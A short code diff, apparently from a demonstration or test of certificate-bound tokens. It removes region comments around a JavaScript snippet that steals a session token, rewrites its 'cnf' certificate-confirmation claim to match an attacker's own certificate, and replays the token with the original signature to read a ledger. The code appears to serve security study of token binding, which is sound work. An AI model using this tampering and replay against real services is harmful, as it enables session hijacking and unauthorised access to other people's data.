@@ -5,7 +5,6 @@ const { token } = await stealSession();
 const [header, payload, signature] = token.split('.');
 const claims = JSON.parse(Buffer.from(payload, 'base64url').toString());
 
-//#region change
 const { raw } = new X509Certificate(ownCertificate.cert);
 const hers = createHash('sha256').update(raw).digest('base64url');
 
@@ -14,4 +13,3 @@ for (const [what, cnf] of Object.entries({ 'no cnf': undefined, 'her own cnf': {
   console.log(`with ${what}`);
   await readLedger(`${header}.${changed}.${signature}`, ownCertificate);
 }
-//#endregion
